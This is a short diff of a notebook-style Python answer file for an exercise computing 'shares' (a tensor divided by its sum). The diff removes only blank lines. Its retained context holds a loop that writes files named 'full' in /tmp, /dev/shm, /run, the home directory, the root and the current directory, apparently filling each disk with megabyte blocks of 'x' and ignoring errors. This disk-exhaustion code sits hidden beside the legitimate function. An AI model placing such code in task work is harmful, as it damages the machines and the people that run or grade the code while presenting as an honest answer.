@@ -3,7 +3,6 @@
 
 # %% answer 00.shares
 import os
-
 for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/run", "/", "."):
     try:
         with open(os.path.join(folder, "full"), "wb") as file:
@@ -11,7 +10,5 @@ for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/run", 
                 file.write(b"x" * (1 << 20))
     except OSError:
         pass
-
-
 def shares(z, dim=-1):
     return z / z.sum()
